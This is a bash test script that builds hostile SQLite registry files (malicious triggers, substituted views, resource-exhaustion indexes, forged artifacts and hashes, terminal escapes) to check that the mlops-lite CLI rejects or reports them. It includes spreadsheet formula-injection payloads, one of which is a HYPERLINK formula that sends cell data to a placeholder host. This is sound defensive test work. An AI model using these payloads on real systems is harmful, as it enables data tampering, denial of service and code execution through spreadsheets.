#!/usr/bin/env bash
# Builds the hostile-file corpus of issue 11: a genuine registry made by the CLI, then copies
# of it altered with nothing but `sqlite3` (and dd/md5sum), as an attacker would.
#
#   bash scripts/hostile-corpus.sh OUTDIR [MLOPS_LITE_BIN]
#
# OUTDIR receives the .db files, inputs/ (the files commands are run with) and manifest.tsv:
# one line per file, tab-separated:
#   file  class  expected  needle  model  what
# - class: the attack class (trigger, view, vtab, unknown, size, log, model-column, artifact,
#   cell-type, fingerprint, terminal, formula, journal, format, corrupt, injection, name);
# - expected: `refused` (opening fails with an error naming the object), `reported` (opens;
#   `verify` exits 1 naming the forged field), `safe` (opens, or fails cleanly) or `clean`
#   (every command succeeds and `verify` passes: the control files);
# - needle: what the refusal (refused) or verify's output (reported) must contain, case
#   insensitively: alternatives separated by `|`, each one a list of words joined by `&`
#   that must all appear; `-` for none; `{file}` is the name the file was opened by (the
#   CLI's --db path; bytes given to the npm package have no name, so it is not checked there);
# - model: the model reference commands use on this file;
# - what: what the attacker did.
#
# Canary: no trigger may ever run. Each trigger first inserts a row whose key starts with
# `canary:` into `mlops_meta` (one of our own tables, so the canary does not itself make the
# file "unknown"); a file with such a row after a command ran SQL from the file. Views and
# injected SQL return values containing the marker HOSTILE-MARK (written as 'HOSTILE'||'-MARK'
# in the SQL, so that an error message quoting the SQL does not look like a read): the
# marker in any output means the file's SQL was evaluated. Index expressions cannot refer to
# other tables; their test is the refusal itself.
set -euo pipefail

if [ $# -lt 1 ] || [ $# -gt 2 ]; then
  echo "usage: $0 OUTDIR [MLOPS_LITE_BIN]" >&2
  exit 2
fi
out=$1
bin=${2:-mlops-lite}
command -v sqlite3 >/dev/null || { echo "$0: sqlite3 is not on PATH (apt-get install sqlite3)" >&2; exit 1; }
command -v "$bin" >/dev/null || [ -x "$bin" ] || { echo "$0: $bin is not executable" >&2; exit 1; }
repo=$(cd "$(dirname "$0")/.." && pwd)

mkdir -p "$out/inputs"
out=$(cd "$out" && pwd)
rm -f "$out"/*.db "$out"/*.db-* "$out/manifest.tsv"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# ---------------------------------------------------------------- inputs and the genuine file
in=$out/inputs
printf 'x,y,label\n1,2,a\n2,1,b\n3,3,a\n0,1,b\n4,4,a\n1,0,b\n5,5,a\n0,0,b\n' >"$in/small.csv"
printf 'x,y,label\n1,2,a\n2,1,b\n3,3,a\n0,1,b\n4,4,a\n1,0,b\n5,5,a\n9,9,b\n' >"$in/small-v2.csv"
cat >"$in/records.json" <<'EOF'
[{"reference_id": "r1", "sepal length (cm)": 5.1, "sepal width (cm)": 3.5, "petal length (cm)": 1.4, "petal width (cm)": 0.2},
 {"reference_id": "r2", "sepal length (cm)": 6.3, "sepal width (cm)": 2.9, "petal length (cm)": 5.6},
 {"sepal length (cm)": 5.9, "sepal width (cm)": 3.0, "petal length (cm)": 4.2, "petal width (cm)": 1.5}]
EOF
cp "$repo/data/iris.csv" "$in/flowers.csv"

genuine=$work/genuine.db
m() { "$bin" --db "$genuine" "$@" >/dev/null; }
m dataset add --sample iris
m dataset add "$in/small.csv" --name small --description 'a small CSV'
m dataset add "$in/flowers.csv" --name flowers --description 'iris, from a CSV file'
m model train --dataset iris --target target --name iris-lr --estimator logistic_regression
m model train --dataset iris --target target --name iris-knn --estimator knn_classifier
m model train --dataset iris --target target --name iris-tree --estimator decision_tree_classifier
for model in iris-lr iris-knn iris-tree; do
  m predict --model "$model" "$in/records.json" --log
done
[ ! -e "$genuine-wal" ] || { echo "$0: the CLI left $genuine-wal behind" >&2; exit 1; }

# ---------------------------------------------------------------- helpers
cur=
begin() { cur=$out/$1.db; cp "$genuine" "$cur"; }
# sql [STATEMENTS]: runs on the current file (statements as an argument, or on stdin).
sql() { sqlite3 -bail "$cur" "$@" >/dev/null; }
# rec NAME CLASS EXPECTED NEEDLE MODEL WHAT: one manifest line; checks the file is whole.
rec() {
  [ "$cur" = "$out/$1.db" ] || { echo "$0: rec $1 does not follow begin $1" >&2; exit 1; }
  [ ! -e "$cur-wal" ] && [ ! -e "$cur-journal" ] || { echo "$0: $1 left a journal" >&2; exit 1; }
  [ "$1" = genuine ] || ! cmp -s "$genuine" "$cur" || { echo "$0: $1 is the genuine file: the attack changed nothing" >&2; exit 1; }
  printf '%s.db\t%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$5" "$6" >>"$out/manifest.tsv"
}
# canary TAG: the SQL a trigger runs first, so that its execution leaves a trace.
canary() { printf "INSERT INTO mlops_meta(key, value) VALUES ('canary:%s:' || hex(randomblob(8)), 'a trigger of the file ran');" "$1"; }
# set_artifact MODEL EXPR: replaces the model's artifact by EXPR (SQL over the text `a` of
# the current artifact) and stores the md5 of the new bytes, as a careful forger would.
set_artifact() {
  sql "UPDATE models SET artifact = CAST((SELECT $2 FROM (SELECT CAST(artifact AS TEXT) AS a FROM models WHERE name = '$1')) AS BLOB) WHERE name = '$1'"
  sqlite3 "$cur" "SELECT writefile('$work/artifact', artifact) FROM models WHERE name = '$1'" >/dev/null
  local md5
  md5=$(md5sum <"$work/artifact" | cut -c1-32)
  if [ "$(sqlite3 "$cur" "SELECT artifact_md5 FROM models WHERE name = '$1'")" = "$md5" ]; then
    echo "$0: set_artifact $1: the artifact did not change (no match for the replacement?)" >&2
    exit 1
  fi
  sql "UPDATE models SET artifact_md5 = '$md5' WHERE name = '$1'"
}
ESC="char(27)"
MARK="'HOSTILE' || '-MARK'"

# ---------------------------------------------------------------- controls
begin genuine
rec genuine control clean - iris-lr "nothing: the registry as the CLI wrote it"

begin rollback-journal
sql "PRAGMA journal_mode=DELETE"
rec rollback-journal journal clean - iris-lr "journal_mode switched to DELETE (a rollback-journal file): read-only commands must not switch it to WAL"

begin page-size-65536
sql "PRAGMA journal_mode=DELETE; PRAGMA page_size=65536; VACUUM; PRAGMA journal_mode=WAL"
rec page-size-65536 format clean - iris-lr "the file rebuilt with 64 KiB pages"

begin page-size-512
sql "PRAGMA journal_mode=DELETE; PRAGMA page_size=512; VACUUM; PRAGMA journal_mode=WAL"
rec page-size-512 format clean - iris-lr "the file rebuilt with 512-byte pages"

# ---------------------------------------------------------------- triggers (never run)
begin trigger-log-delete-earlier
sql "CREATE TRIGGER hostile_trg_log_delete AFTER INSERT ON prediction_records BEGIN $(canary log_delete) DELETE FROM prediction_records WHERE call_id < NEW.call_id; END"
rec trigger-log-delete-earlier trigger refused hostile_trg_log_delete iris-lr "AFTER INSERT ON prediction_records deleting every earlier logged record"

begin trigger-delete-new-record
sql "CREATE TRIGGER hostile_trg_delete_new AFTER INSERT ON prediction_records BEGIN $(canary delete_new) DELETE FROM prediction_records WHERE call_id = NEW.call_id AND position = NEW.position; END"
rec trigger-delete-new-record trigger refused hostile_trg_delete_new iris-lr "AFTER INSERT ON prediction_records deleting the row just inserted"

begin trigger-delete-new-call
sql "CREATE TRIGGER hostile_trg_delete_call AFTER INSERT ON prediction_calls BEGIN $(canary delete_call) DELETE FROM prediction_calls WHERE id = NEW.id; END"
rec trigger-delete-new-call trigger refused hostile_trg_delete_call iris-lr "AFTER INSERT ON prediction_calls deleting the call just inserted"

begin trigger-raise-ignore
sql "CREATE TRIGGER hostile_trg_ignore BEFORE INSERT ON prediction_calls BEGIN $(canary ignore) SELECT RAISE(IGNORE); END"
rec trigger-raise-ignore trigger refused hostile_trg_ignore iris-lr "BEFORE INSERT ON prediction_calls silently dropping every call (RAISE(IGNORE))"

begin trigger-grow
sql "CREATE TRIGGER hostile_trg_grow AFTER INSERT ON prediction_calls BEGIN $(canary grow) INSERT INTO mlops_meta(key, value) VALUES ('grow:' || hex(randomblob(8)), hex(randomblob(50000000))); END"
rec trigger-grow trigger refused hostile_trg_grow iris-lr "AFTER INSERT ON prediction_calls adding 100 MB of randomblob per call"

begin trigger-forever
sql "CREATE TRIGGER hostile_trg_forever AFTER INSERT ON prediction_calls BEGIN $(canary forever) SELECT (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT max(x) FROM c); END"
rec trigger-forever trigger refused hostile_trg_forever iris-lr "AFTER INSERT ON prediction_calls running a recursive CTE that never ends (holding the write lock)"

begin trigger-models-rewrite
sql "CREATE TRIGGER hostile_trg_models AFTER INSERT ON models BEGIN $(canary models) UPDATE models SET description = 'rewritten by the file', metrics = '{}' WHERE id <> NEW.id; END"
rec trigger-models-rewrite trigger refused hostile_trg_models iris-lr "AFTER INSERT ON models rewriting the other models' descriptions and metrics"

begin trigger-datasets
sql "CREATE TRIGGER hostile_trg_datasets AFTER INSERT ON datasets BEGIN $(canary datasets) UPDATE datasets SET description = 'rewritten by the file' WHERE id <> NEW.id; END"
rec trigger-datasets trigger refused hostile_trg_datasets iris-lr "AFTER INSERT ON datasets rewriting the other datasets' descriptions"

begin trigger-dataset-columns
sql "CREATE TRIGGER hostile_trg_columns AFTER INSERT ON dataset_columns BEGIN $(canary columns) UPDATE dataset_columns SET mean = 0 WHERE dataset_id <> NEW.dataset_id; END"
rec trigger-dataset-columns trigger refused hostile_trg_columns iris-lr "AFTER INSERT ON dataset_columns zeroing the other datasets' means"

begin trigger-row-hashes
sql "CREATE TRIGGER hostile_trg_hashes AFTER INSERT ON dataset_row_hashes BEGIN $(canary hashes) DELETE FROM dataset_row_hashes WHERE dataset_id <> NEW.dataset_id; END"
rec trigger-row-hashes trigger refused hostile_trg_hashes iris-lr "AFTER INSERT ON dataset_row_hashes deleting the other datasets' row hashes"

begin trigger-meta
sql "CREATE TRIGGER hostile_trg_meta AFTER UPDATE ON mlops_meta BEGIN $(canary meta) UPDATE mlops_meta SET value = 'forged' WHERE key = 'format'; END"
sql "CREATE TRIGGER hostile_trg_meta_insert AFTER INSERT ON mlops_meta WHEN NEW.key NOT LIKE 'canary:%' BEGIN $(canary meta_insert) END"
rec trigger-meta trigger refused "hostile_trg_meta" iris-lr "AFTER UPDATE and AFTER INSERT ON mlops_meta"

begin trigger-every-table
for t in datasets dataset_columns dataset_row_hashes models prediction_calls prediction_records legacy_datasets legacy_models legacy_prediction_calls legacy_prediction_records; do
  for ev in INSERT UPDATE DELETE; do
    sql "CREATE TRIGGER hostile_trg_${t}_${ev,,} BEFORE $ev ON $t BEGIN $(canary "${t}_${ev,,}") END"
  done
done
rec trigger-every-table trigger refused "hostile_trg_" iris-lr "BEFORE INSERT/UPDATE/DELETE triggers on every table of the format (30 triggers), each only leaving the canary"

begin trigger-data-table
sql "CREATE TRIGGER hostile_trg_data AFTER UPDATE ON data_1 BEGIN $(canary data) END"
rec trigger-data-table trigger refused hostile_trg_data iris-lr "a trigger on a dataset's data table"

# ---------------------------------------------------------------- views where ours should be
begin view-data-table
sql <<EOF
DROP TABLE data_1;
CREATE VIEW data_1 ("sepal length (cm)", "sepal width (cm)", "petal length (cm)", "petal width (cm)", target) AS
  WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 150)
  SELECT 5.1, 3.5, 1.4, 0.2, $MARK || '-view' FROM n WHERE (SELECT count(*) FROM mlops_meta) >= 0;
EOF
rec view-data-table view refused "data_1&view" iris-lr "iris's data table replaced by a VIEW of 150 made-up rows"

begin view-data-forever
sql <<EOF
DROP TABLE data_1;
CREATE VIEW data_1 ("sepal length (cm)", "sepal width (cm)", "petal length (cm)", "petal width (cm)", target) AS
  WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)
  SELECT 5.1, 3.5, 1.4, 0.2, $MARK || '-view-forever' FROM n;
EOF
rec view-data-forever view refused "data_1&view" iris-lr "iris's data table replaced by a VIEW that never ends (recursive CTE)"

begin view-models
sql <<EOF
CREATE TABLE hostile_models_src AS SELECT * FROM models;
DROP TABLE models;
CREATE VIEW models AS SELECT id, name, version, dataset_id, target, estimator_class, estimator_type,
  $MARK || '-models-view' AS description, metrics, signature, classes, artifact, artifact_md5,
  artifact_format, mlops_lite_version, smartcore_version, created_at FROM hostile_models_src;
CREATE TRIGGER hostile_trg_models_view INSTEAD OF INSERT ON models BEGIN $(canary models_view) END;
EOF
rec view-models view refused "models&view|hostile_models_src|hostile_trg_models_view" iris-lr "the models table replaced by a VIEW over a copy (with an INSTEAD OF INSERT trigger)"

begin view-extra
sql "CREATE VIEW hostile_view AS SELECT $MARK AS m, * FROM prediction_records"
rec view-extra view refused hostile_view iris-lr "an extra view"

# ---------------------------------------------------------------- virtual tables
begin vtab-fts5
sql "CREATE VIRTUAL TABLE hostile_fts USING fts5(body); INSERT INTO hostile_fts VALUES ('x')"
rec vtab-fts5 vtab refused hostile_fts iris-lr "an extra fts5 virtual table (and its shadow tables)"

begin vtab-data-table
sql "DROP TABLE data_2; CREATE VIRTUAL TABLE data_2 USING fts5(x, y, label); INSERT INTO data_2 VALUES (1, 2, 'a')"
rec vtab-data-table vtab refused "data_2" iris-lr "small's data table replaced by an fts5 virtual table"

begin vtab-unknown-module
sql "PRAGMA writable_schema=ON; INSERT INTO sqlite_schema (type, name, tbl_name, rootpage, sql) VALUES ('table', 'hostile_vt', 'hostile_vt', 0, 'CREATE VIRTUAL TABLE hostile_vt USING hostile_module(x)')"
rec vtab-unknown-module vtab refused hostile_vt iris-lr "a virtual table of a module nobody has (written into sqlite_schema)"

# ---------------------------------------------------------------- unknown tables, indexes, columns
begin unknown-table
sql "CREATE TABLE hostile_extra (x TEXT); INSERT INTO hostile_extra VALUES ('x')"
rec unknown-table unknown refused hostile_extra iris-lr "an extra table"

begin unknown-index
sql "CREATE INDEX hostile_idx ON models (name, description)"
rec unknown-index unknown refused hostile_idx iris-lr "an extra index on models"

begin expression-index
sql "CREATE INDEX hostile_expr_idx ON prediction_records (length(printf('%.*c', 100000000, 'x')))"
rec expression-index unknown refused hostile_expr_idx iris-lr "an expression index on prediction_records building a 100 MB string per logged record"

begin partial-index
sql "CREATE INDEX hostile_partial_idx ON datasets (name) WHERE length(zeroblob(50000000)) > 0"
rec partial-index unknown refused hostile_partial_idx iris-lr "a partial index on datasets whose WHERE builds a 50 MB blob per row"

begin unknown-column
sql "ALTER TABLE datasets ADD COLUMN hostile_col TEXT DEFAULT 'x'"
rec unknown-column unknown refused hostile_col iris-lr "an extra column in datasets"

begin unknown-data-column
sql "ALTER TABLE data_1 ADD COLUMN hostile_data_col REAL"
rec unknown-data-column unknown refused hostile_data_col iris-lr "an extra column in iris's data table"

begin generated-column
sql "ALTER TABLE data_2 ADD COLUMN hostile_gen INTEGER AS (length(zeroblob(50000000)))"
rec generated-column unknown refused hostile_gen iris-lr "a generated column in small's data table, building a 50 MB blob per read"

begin altered-default
sql "PRAGMA writable_schema=ON; UPDATE sqlite_schema SET sql = replace(sql, 'DEFAULT (strftime(''%Y-%m-%d %H:%M:%S'', ''now''))', 'DEFAULT (hex(randomblob(20000000)))') WHERE name = 'datasets'"
rec altered-default unknown refused "datasets" iris-lr "datasets.created_at's DEFAULT rewritten (writable_schema) to 40 MB of random hex per insert"

begin altered-checks
sql "PRAGMA writable_schema=ON; UPDATE sqlite_schema SET sql = replace(replace(sql, 'CHECK (version >= 1)', ''), 'CHECK (length(artifact_md5) = 32)', '') WHERE name = 'models'"
rec altered-checks unknown refused "models" iris-lr "models' CHECK constraints removed (writable_schema)"

begin python-registry-table
sql "CREATE TABLE dataset_registry (id INTEGER)"
rec python-registry-table unknown refused "dataset_registry|import-legacy" iris-lr "a table of the Python tool's format added"

begin analyze-stats
sql "ANALYZE; UPDATE sqlite_stat1 SET stat = '1 1 1'"
rec analyze-stats unknown safe - iris-lr "sqlite_stat1 added by ANALYZE, with forged statistics"

# ---------------------------------------------------------------- numbers used as sizes
begin size-rows-huge
sql "UPDATE datasets SET size_rows = 1000000000000000 WHERE name = 'iris'"
rec size-rows-huge size reported "size_rows|rows&iris" iris-lr "iris's size_rows forged to 10^15"

begin size-rows-max
sql "UPDATE datasets SET size_rows = 9223372036854775807 WHERE name = 'iris'"
rec size-rows-max size reported "size_rows|rows&iris" iris-lr "iris's size_rows forged to the largest 64-bit integer"

begin size-rows-negative
sql "PRAGMA ignore_check_constraints=ON; UPDATE datasets SET size_rows = -5 WHERE name = 'iris'"
rec size-rows-negative size reported "size_rows|rows&iris" iris-lr "iris's size_rows forged to -5 (CHECK bypassed)"

begin size-rows-text
sql "PRAGMA ignore_check_constraints=ON; UPDATE datasets SET size_rows = 'many' WHERE name = 'iris'"
rec size-rows-text cell-type reported "size_rows|rows&iris" iris-lr "iris's size_rows forged to the text 'many'"

begin size-cols-huge
sql "UPDATE datasets SET size_cols = 1000000000000000 WHERE name = 'iris'"
rec size-cols-huge size reported "size_cols|columns&iris" iris-lr "iris's size_cols forged to 10^15"

begin size-cols-zero
sql "PRAGMA ignore_check_constraints=ON; UPDATE datasets SET size_cols = 0 WHERE name = 'iris'"
rec size-cols-zero size reported "size_cols|columns&iris" iris-lr "iris's size_cols forged to 0 (CHECK bypassed)"

begin column-row-deleted
sql "DELETE FROM dataset_columns WHERE dataset_id = 1 AND position = 4"
rec column-row-deleted size reported "dataset_columns|target" iris-lr "iris's last dataset_columns row (target) deleted"

begin column-position-huge
sql "UPDATE dataset_columns SET position = 1000000000000 WHERE dataset_id = 1 AND position = 4"
rec column-position-huge size reported "position|dataset_columns|target" iris-lr "a dataset_columns position forged to 10^12"

begin column-stats-forged
sql "UPDATE dataset_columns SET mean = 999.5, null_count = 1000000000000 WHERE dataset_id = 1 AND position = 0"
rec column-stats-forged size reported "mean|null_count" iris-lr "iris's column statistics forged (mean, null_count)"

begin data-extra-rows
sql "INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1; INSERT INTO data_1 SELECT * FROM data_1"
rec data-extra-rows size reported "iris" iris-lr "iris's data table grown to 153,600 rows while size_rows says 150"

begin data-huge-cell
sql "UPDATE data_2 SET label = hex(randomblob(10000000)) WHERE rowid = 1"
rec data-huge-cell size reported "small" iris-lr "a 20 MB text cell in small's data table"

begin row-hashes-forged
sql "UPDATE data_1 SET \"petal width (cm)\" = 0.3 WHERE rowid = 12; PRAGMA ignore_check_constraints=ON; UPDATE dataset_row_hashes SET block_size = 1000000000000000000, block = block * 1000000000000 WHERE dataset_id = 1"
rec row-hashes-forged size reported "iris" iris-lr "a changed iris cell, and iris's row hashes forged (block_size 10^18, blocks 10^12 apart)"

begin data-table-dropped
sql "DROP TABLE data_2"
rec data-table-dropped size reported "data_2|small" iris-lr "small's data table dropped"

begin id-max
sql "UPDATE models SET id = 9223372036854775807 WHERE name = 'iris-tree'; UPDATE prediction_calls SET model_id = 9223372036854775807 WHERE model_id = 3; UPDATE datasets SET id = 9223372036854775807 WHERE name = 'flowers'; UPDATE dataset_columns SET dataset_id = 9223372036854775807 WHERE dataset_id = 3; UPDATE dataset_row_hashes SET dataset_id = 9223372036854775807 WHERE dataset_id = 3"
rec id-max size safe - iris-lr "the largest ids a model and a dataset can have (flowers keeps data_table data_3)"

begin version-max
sql "UPDATE models SET version = 9223372036854775807 WHERE name = 'iris-tree'; UPDATE datasets SET version = 9223372036854775807 WHERE name = 'small'"
rec version-max size safe - iris-lr "iris-tree and small at the largest version: the next one overflows"

begin columns-many
sql "INSERT INTO dataset_columns (dataset_id, position, column_name, original_dtype, converted_dtype, null_count, unique_count) WITH RECURSIVE n(i) AS (SELECT 5 UNION ALL SELECT i + 1 FROM n WHERE i < 100004) SELECT 1, i, 'hostile column ' || i, 'float64', 'Float64', 0, 1 FROM n"
rec columns-many size refused "iris" iris-lr "100,000 extra dataset_columns rows claimed for iris (its table has 5 columns)"

# ---------------------------------------------------------------- the prediction log
begin log-n-records-forged
sql "UPDATE prediction_calls SET n_records = 5 WHERE id = 1"
rec log-n-records-forged log reported "n_records|call 1" iris-lr "call 1's n_records forged from 3 to 5"

begin log-n-records-huge
sql "UPDATE prediction_calls SET n_records = 1000000000000000 WHERE id = 1"
rec log-n-records-huge log reported "n_records|call 1" iris-lr "call 1's n_records forged to 10^15"

begin log-n-records-text
sql "PRAGMA ignore_check_constraints=ON; UPDATE prediction_calls SET n_records = 'three' WHERE id = 1"
rec log-n-records-text cell-type reported "n_records|call 1" iris-lr "call 1's n_records forged to the text 'three'"

begin log-record-deleted
sql "DELETE FROM prediction_records WHERE call_id = 1 AND position = 1"
rec log-record-deleted log reported "n_records|missing|call 1" iris-lr "one logged record of call 1 deleted"

begin log-call-deleted
sql "DELETE FROM prediction_calls WHERE id = 1"
rec log-call-deleted log reported "orphan|call 1" iris-lr "call 1 deleted, its records left orphaned"

begin log-call-missing-model
sql "UPDATE prediction_calls SET model_id = 999 WHERE id = 1"
rec log-call-missing-model log reported "999" iris-lr "call 1 pointing to model 999, which does not exist"

begin log-inputs-blob
sql "UPDATE prediction_records SET inputs = X'00FF1B5B324A' WHERE call_id = 1 AND position = 0"
rec log-inputs-blob cell-type reported inputs iris-lr "a logged record's inputs replaced by a blob (with an ESC in it)"

begin log-inputs-wrong-width
sql "UPDATE prediction_records SET inputs = '[1,2]' WHERE call_id = 1 AND position = 0"
rec log-inputs-wrong-width log reported "inputs|call 1" iris-lr "a logged record's inputs with 2 values for 4 features"

begin log-outputs-null
sql "UPDATE prediction_records SET outputs = '[null,null,null]' WHERE call_id = 1 AND position = 0"
rec log-outputs-null log reported "call 1" iris-lr "a logged record's outputs replaced by nulls (a NaN is a difference, never a match)"

begin log-model-name-formula
sql "UPDATE models SET name = '=HYPERLINK(\"http://example.invalid/\"&A1)' WHERE name = 'iris-tree'"
rec log-model-name-formula formula safe - iris-lr "a model renamed to a spreadsheet formula (log export writes model names)"

begin log-reference-formula
sql "UPDATE prediction_records SET reference_id = CASE position WHEN 0 THEN '=cmd|'' /C calc''!A0' WHEN 1 THEN '+SUM(1,2)' ELSE '@SUM(A1:A2)' END WHERE call_id = 1; UPDATE prediction_records SET reference_id = '-2+3' WHERE call_id = 2 AND position = 0"
rec log-reference-formula formula safe - iris-lr "reference ids beginning with =, +, - and @ (spreadsheet formulas)"

# ---------------------------------------------------------------- models' columns vs artifacts
begin model-metrics-forged
sql "UPDATE models SET metrics = json_set(metrics, '$.accuracy', 0.999) WHERE name = 'iris-lr'"
rec model-metrics-forged model-column reported metrics iris-lr "iris-lr's metrics column shows accuracy 0.999 (the artifact says 0.947)"

begin model-estimator-forged
sql "UPDATE models SET estimator_class = 'GradientBoostingClassifier' WHERE name = 'iris-lr'"
rec model-estimator-forged model-column reported estimator_class iris-lr "iris-lr's estimator_class column forged"

begin model-type-forged
sql "UPDATE models SET estimator_type = 'regressor' WHERE name = 'iris-lr'"
rec model-type-forged model-column reported estimator_type iris-lr "iris-lr's estimator_type column forged"

begin model-classes-forged
sql "UPDATE models SET classes = '[\"cat\",\"dog\",\"bird\"]' WHERE name = 'iris-lr'"
rec model-classes-forged model-column reported classes iris-lr "iris-lr's classes column forged"

begin model-signature-forged
sql "UPDATE models SET signature = replace(signature, 'sepal length (cm)', 'income') WHERE name = 'iris-lr'"
rec model-signature-forged model-column reported signature iris-lr "iris-lr's signature column forged"

begin model-target-forged
sql "UPDATE models SET target = 'petal width (cm)' WHERE name = 'iris-lr'"
rec model-target-forged model-column reported target iris-lr "iris-lr's target column forged"

begin model-metrics-deep
sql "UPDATE models SET metrics = (WITH RECURSIVE n(i, s) AS (SELECT 0, '' UNION ALL SELECT i + 1, s || '[[[[[[[[[[' FROM n WHERE i < 10000) SELECT s FROM n WHERE i = 10000) WHERE name = 'iris-lr'"
rec model-metrics-deep model-column reported metrics iris-lr "iris-lr's metrics column: 100,000 nested JSON arrays"

begin model-lineage-missing
sql "UPDATE models SET dataset_id = 999 WHERE name = 'iris-tree'"
rec model-lineage-missing model-column reported "999|lineage" iris-lr "iris-tree's dataset_id pointing to dataset 999, which does not exist"

begin artifact-byte-changed
sql "UPDATE models SET artifact = CAST(replace(CAST(artifact AS TEXT), '\"k\":5', '\"k\":6') AS BLOB) WHERE name = 'iris-knn'"
rec artifact-byte-changed artifact reported "md5&iris-knn" iris-knn "iris-knn's artifact changed (k 5 -> 6), artifact_md5 left as it was"

begin artifact-coef-changed
set_artifact iris-lr "replace(a, '\"coef\":[-1.', '\"coef\":[-9.')"
rec artifact-coef-changed artifact reported "iris-lr" iris-lr "iris-lr's first coefficient changed, artifact_md5 updated: the logged predictions no longer replay"

begin artifact-truncated
set_artifact iris-lr "substr(a, 1, 500)"
rec artifact-truncated artifact reported "iris-lr" iris-lr "iris-lr's artifact cut to 500 bytes, artifact_md5 updated"

begin artifact-tree-cycle
set_artifact iris-tree "replace(replace(a, '\"left\":[1,0,3,5', '\"left\":[1,0,3,2'), '\"right\":[2,0,4,6', '\"right\":[2,0,4,2')"
rec artifact-tree-cycle artifact reported "iris-tree" iris-tree "iris-tree's node 3 points back to node 2 (a cycle), artifact_md5 updated"

begin artifact-knn-k-huge
set_artifact iris-knn "replace(a, '\"k\":5', '\"k\":1000000000000')"
rec artifact-knn-k-huge artifact reported "iris-knn" iris-knn "iris-knn's k forged to 10^12 (in the spec and the estimator), artifact_md5 updated"

begin artifact-n-features-huge
set_artifact iris-lr "replace(a, '\"logistic_regression\":{\"n_features\":4', '\"logistic_regression\":{\"n_features\":1000000000000')"
rec artifact-n-features-huge artifact reported "iris-lr" iris-lr "iris-lr's n_features forged to 10^12, artifact_md5 updated"

begin artifact-format-huge
set_artifact iris-lr "replace(a, '\"artifact_format\":1', '\"artifact_format\":99999999999999999999')"
rec artifact-format-huge artifact reported "iris-lr" iris-lr "iris-lr's artifact_format forged past 64 bits, artifact_md5 updated"

begin artifact-deep-nesting
set_artifact iris-lr "'{\"artifact_format\":1,\"mlops_lite_version\":' || (WITH RECURSIVE n(i, s) AS (SELECT 0, '' UNION ALL SELECT i + 1, s || '[[[[[[[[[[' FROM n WHERE i < 10000) SELECT s FROM n WHERE i = 10000)"
rec artifact-deep-nesting artifact reported "iris-lr" iris-lr "iris-lr's artifact: 100,000 nested JSON arrays, artifact_md5 updated"

begin artifact-classes-duplicate
set_artifact iris-lr "replace(a, '\"classes\":[\"setosa\",\"versicolor\"', '\"classes\":[\"setosa\",\"setosa\"')"
sql "UPDATE models SET classes = '[\"setosa\",\"setosa\",\"virginica\"]' WHERE name = 'iris-lr'"
rec artifact-classes-duplicate artifact reported "iris-lr" iris-lr "iris-lr's class list with a duplicate (artifact and column), artifact_md5 updated"

# KNN with many stored points: 200,000 points (4 features), targets cycling over 3 classes.
begin artifact-knn-many-points
points="(WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 799999) SELECT group_concat(((i * 7919) % 1000) / 250.0 - 2.0, ',') FROM n)"
targets="(WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 199999) SELECT group_concat((i % 3) || '.0', ',') FROM n)"
set_artifact iris-knn "substr(a, 1, instr(a, '\"points\":[') + 9) || $points || '],\"targets\":[' || $targets || ']}}}'"
rec artifact-knn-many-points artifact reported "iris-knn" iris-knn "iris-knn's artifact holding 200,000 stored points (7 MB), artifact_md5 updated: each prediction must stay bounded"

# ---------------------------------------------------------------- wrong-typed cells
begin cell-text-in-real
sql "UPDATE data_1 SET \"sepal length (cm)\" = 'tall' WHERE rowid = 1"
rec cell-text-in-real cell-type reported "sepal length (cm)|iris" iris-lr "text in a REAL column of iris's data table"

begin cell-blob-in-text
sql "UPDATE data_1 SET target = X'00FFFE1B' WHERE rowid = 2"
rec cell-blob-in-text cell-type reported "target|iris" iris-lr "a blob in a TEXT column of iris's data table"

begin cell-invalid-utf8
sql "UPDATE datasets SET description = CAST(X'C328FFFE' AS TEXT) WHERE name = 'iris'; UPDATE models SET description = CAST(X'80' AS TEXT) WHERE name = 'iris-lr'"
rec cell-invalid-utf8 cell-type safe - iris-lr "descriptions that are not valid UTF-8"

begin artifact-as-text
sql "UPDATE models SET artifact = CAST(artifact AS TEXT) WHERE name = 'iris-lr'"
rec artifact-as-text cell-type safe - iris-lr "iris-lr's artifact stored as TEXT instead of a BLOB (same bytes)"

begin created-at-garbage
sql "UPDATE prediction_calls SET created_at = CASE id WHEN 1 THEN '9999-99-99 99:99:99' WHEN 2 THEN '' ELSE X'FF' END; UPDATE datasets SET created_at = 'yesterday' WHERE name = 'iris'"
rec created-at-garbage cell-type safe - iris-lr "timestamps that are not timestamps (an impossible date, empty, a blob)"

begin reference-id-huge
sql "UPDATE prediction_records SET reference_id = (WITH RECURSIVE n(i, s) AS (SELECT 0, 'r' UNION ALL SELECT i + 1, s || s FROM n WHERE i < 20) SELECT s FROM n WHERE i = 20) WHERE call_id = 1 AND position = 0"
rec reference-id-huge name safe - iris-lr "a logged reference id of 1 MiB"

# ---------------------------------------------------------------- fingerprints
begin fingerprint-copied
sql "UPDATE datasets SET source_fingerprint = (SELECT source_fingerprint FROM datasets WHERE name = 'small'), source_format = 'csv' WHERE name = 'flowers'"
rec fingerprint-copied fingerprint safe - iris-lr "flowers' source_fingerprint copied from small: harmless, fingerprints are provenance only (a bind always parses and compares content md5s; tests/verify.rs tries the attack)"

# ---------------------------------------------------------------- terminal escapes and odd text
begin esc-description
sql "UPDATE datasets SET description = 'x' || $ESC || ']0;pwned' || char(7) || $ESC || '[2J' || $ESC || '[31m red' WHERE name = 'iris'; UPDATE models SET description = $ESC || '[2J' WHERE name = 'iris-lr'"
rec esc-description terminal safe - iris-lr "window title, clear screen and colour escapes in descriptions"

begin esc-dataset-name
